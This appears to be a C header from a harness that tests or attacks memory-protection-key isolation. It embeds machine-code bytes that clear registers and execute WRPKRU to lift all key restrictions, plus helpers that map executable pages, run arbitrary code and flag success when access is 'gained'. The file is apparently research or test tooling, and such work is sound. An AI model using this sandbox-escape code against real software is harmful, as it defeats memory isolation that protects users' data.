/* SPDX-License-Identifier: Apache-2.0 */
/* Code that a program writes itself, to open the keys with it. */
#ifndef CODE_H
#define CODE_H

#include "attack.h"

/* xor eax, ecx, edx; wrpkru; ret */
static const uint8_t opener[] = { 0x31, 0xc0, 0x31, 0xc9, 0x31, 0xd2, 0x0f, 0x01, 0xef, 0xc3 };
#define WRPKRU_AT 6

static inline void *pages(int n, int prot)
{
	return MUST(mmap(NULL, n * PAGE, prot, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0));
}

/* Run code of our own; whatever it raises is as good as its return. */
static inline void run(const void *code)
{
	TRY(asm volatile("call *%0"
			 :
			 : "r"(code)
			 : "rax", "rbx", "rcx", "rdx", "rsi", "rdi", "r11", "r15", "memory", "cc"));
}

/* Run it and see. */
#define OPEN_WITH(code, ...)                  \
	do {                                  \
		run(code);                    \
		if (inside())                 \
			GAINED(__VA_ARGS__);  \
	} while (0)

/* The page has run, so whatever the kernel makes of it is made. */
static inline void warm_up(uint8_t *p)
{
	*(volatile uint8_t *)p = 0xc3;
	run(p);
}

#endif
